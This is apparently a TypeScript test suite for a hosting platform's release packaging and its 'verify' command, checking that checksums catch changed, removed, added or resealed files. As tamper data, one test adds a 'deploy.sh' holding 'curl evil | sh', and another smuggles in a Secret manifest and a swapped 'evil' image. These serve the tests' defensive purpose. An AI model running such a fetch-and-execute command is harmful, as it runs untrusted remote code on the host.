import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { parseAllDocuments } from 'yaml'
import { API_VERSION } from '../api/kind.js'
import type { Release, Webspace } from '../api/resources.js'
import {
  PACKAGE_FILES,
  type PackageFile,
  checksumLines,
  renderReleasePackage,
  sha256Hex,
} from './release-package.js'
import { verifyPackage } from './verify-package.js'

const IMAGE = `registry.test/hostplane/acme@sha256:${'a'.repeat(64)}`
const COMMIT = 'c'.repeat(40)

const release: Release = {
  apiVersion: API_VERSION,
  kind: 'Release',
  metadata: {
    name: 'shop-cccccccccccc-abcdef',
    namespace: 'sh-acme',
    uid: 'u-1',
    creationTimestamp: '2026-12-01T10:00:00Z',
    labels: { 'hostplane.dev/webspace': 'shop' },
    resourceVersion: '42',
  },
  spec: {
    webspace: 'shop',
    branch: 'main',
    commit: COMMIT,
    image: IMAGE,
    strategy: 'layer',
    pushedBy: { customer: 'acme', fingerprint: `SHA256:${'x'.repeat(43)}`, key: 'laptop' },
    buildLog: { digest: `sha256:${'b'.repeat(64)}` },
  },
}

const webspace: Webspace = {
  apiVersion: API_VERSION,
  kind: 'Webspace',
  metadata: { name: 'shop', namespace: 'sh-acme', resourceVersion: '7', generation: 3 },
  spec: {
    runtime: 'php-8.3',
    env: [
      { name: 'DB_PASSWORD', secretKeyRef: { name: 'db', key: 'password' } },
      { name: 'DB_USER', secretKeyRef: { name: 'db', key: 'user' } },
      { name: 'MODE', value: 'production' },
    ],
    tls: { mode: 'secret', secretName: 'shop-cert' },
    git: { branch: 'main' },
  } as Webspace['spec'],
  status: { release: 'older' } as Webspace['status'],
}

const rendered = () =>
  renderReleasePackage({
    release,
    webspace,
    created: new Date('2026-12-04T12:00:00Z'),
    createdBy: 'hostplane package 0.1.0',
  })
const asMap = (files: readonly PackageFile[]) => new Map(files.map((f) => [f.path, f.content]))
const problems = (files: Map<string, Buffer>) => {
  const verdict = verifyPackage(files)
  return verdict.ok ? [] : verdict.problems
}
/** What someone who also rewrites checksum.sha256 after a change would hand over. */
const resealed = (files: Map<string, Buffer>) => {
  files.delete(PACKAGE_FILES.checksums)
  const list = [...files].map(([path, content]) => ({ path, content }))
  files.set(PACKAGE_FILES.checksums, Buffer.from(checksumLines(list)))
  return files
}
const text = (files: Map<string, Buffer>, path: string) => files.get(path)?.toString('utf8') ?? ''

describe('a Release as an immutable package', () => {
  it('holds the Release and its Webspace pinned to it, the digest, the Secret names and the checksums', () => {
    const files = asMap(rendered())
    assert.deepEqual([...files.keys()].sort(), Object.values(PACKAGE_FILES).sort())
    const objects = parseAllDocuments(text(files, PACKAGE_FILES.manifests)).map((d) => d.toJS() as Release)
    assert.deepEqual(
      objects.map((o) => [o.kind, o.metadata.name]),
      [
        ['Release', release.metadata.name],
        ['Webspace', 'shop'],
      ],
    )
    assert.equal((objects[1] as unknown as Webspace).spec.release, release.metadata.name)
    for (const object of objects) {
      assert.equal(object.metadata.resourceVersion, undefined, 'nothing the API server owns')
      assert.equal((object as { status?: unknown }).status, undefined)
    }
    assert.equal(text(files, PACKAGE_FILES.images), `${IMAGE}\n`)
    assert.match(text(files, PACKAGE_FILES.secretsRef), /^db password,user\nshop-cert tls\.crt,tls\.key\n$/m)
    assert.doesNotMatch(text(files, PACKAGE_FILES.manifests), /production-secret-value/)
    const manifest = JSON.parse(text(files, PACKAGE_FILES.manifest)) as Record<string, unknown>
    assert.equal(manifest.version, release.metadata.name)
    assert.equal(manifest.commit, COMMIT)
    assert.equal(manifest.customer, 'acme')
    for (const line of text(files, PACKAGE_FILES.checksums).trim().split('\n')) {
      const [digest, path] = line.split('  ')
      assert.equal(digest, sha256Hex(files.get(path ?? '') ?? Buffer.alloc(0)))
    }
  })

  it('is the same package for the same Release and time', () => {
    assert.deepEqual(rendered(), rendered())
  })

  it('refuses a Release of another Webspace', () => {
    assert.throws(
      () =>
        renderReleasePackage({
          release: { ...release, spec: { ...release.spec, webspace: 'blog' } },
          webspace,
          created: new Date(),
          createdBy: 'x',
        }),
      /belongs to Webspace blog/,
    )
  })
})

describe('hostplane verify', () => {
  it('passes an untouched package', () => {
    const verdict = verifyPackage(asMap(rendered()))
    assert.equal(verdict.ok, true)
  })

  it('finds a changed byte, a removed file and an added file', () => {
    const changed = asMap(rendered())
    changed.set(
      PACKAGE_FILES.manifests,
      Buffer.from(text(changed, PACKAGE_FILES.manifests).replace('main', 'mainx')),
    )
    assert.ok(
      problems(changed).includes(
        `${PACKAGE_FILES.manifests} does not match its checksum: it changed after packaging`,
      ),
    )
    const removed = asMap(rendered())
    removed.delete(PACKAGE_FILES.images)
    assert.ok(
      problems(removed).includes(
        `${PACKAGE_FILES.images} is listed in ${PACKAGE_FILES.checksums} but missing`,
      ),
    )
    const added = asMap(rendered())
    added.set('deploy.sh', Buffer.from('curl evil | sh\n'))
    assert.deepEqual(problems(added), [
      `deploy.sh is not covered by ${PACKAGE_FILES.checksums}: it was added after packaging`,
    ])
    const unsealed = asMap(rendered())
    unsealed.delete(PACKAGE_FILES.checksums)
    assert.match(problems(unsealed)[0] ?? '', /checksum\.sha256 is missing/)
  })

  it('refuses a resealed package that smuggles a Secret, swaps the image or unpins it', () => {
    const secret = asMap(rendered())
    secret.set(
      PACKAGE_FILES.manifests,
      Buffer.from(
        `${text(secret, PACKAGE_FILES.manifests)}---\napiVersion: v1\nkind: Secret\nmetadata: {name: db}\nstringData: {password: production-secret-value}\n`,
      ),
    )
    assert.match(
      problems(resealed(secret)).join('\n'),
      /document 3 is a Secret; a package holds only a Release and its Webspace/,
    )

    const swapped = asMap(rendered())
    const other = `registry.test/hostplane/evil@sha256:${'e'.repeat(64)}`
    swapped.set(
      PACKAGE_FILES.manifests,
      Buffer.from(text(swapped, PACKAGE_FILES.manifests).replace(IMAGE, other)),
    )
    swapped.set(PACKAGE_FILES.images, Buffer.from(`${other}\n`))
    assert.deepEqual(problems(resealed(swapped)), [
      `the Release's image is ${other}, but ${PACKAGE_FILES.manifest} says ${IMAGE}`,
    ])

    const unpinned = asMap(rendered())
    unpinned.set(PACKAGE_FILES.images, Buffer.from(`${IMAGE}\nregistry.test/hostplane/acme:latest\n`))
    assert.deepEqual(problems(resealed(unpinned)), [
      `${PACKAGE_FILES.images} lists registry.test/hostplane/acme:latest, which is not pinned by digest`,
    ])
  })

  it('refuses manifests the API server would refuse, with its message', () => {
    const invalid = asMap(rendered())
    invalid.set(
      PACKAGE_FILES.manifests,
      Buffer.from(text(invalid, PACKAGE_FILES.manifests).replace(COMMIT, 'HEAD')),
    )
    invalid.set(
      PACKAGE_FILES.manifest,
      Buffer.from(text(invalid, PACKAGE_FILES.manifest).replace(COMMIT, 'HEAD')),
    )
    assert.match(problems(resealed(invalid)).join('\n'), /commit must be a full commit id/)
  })
})
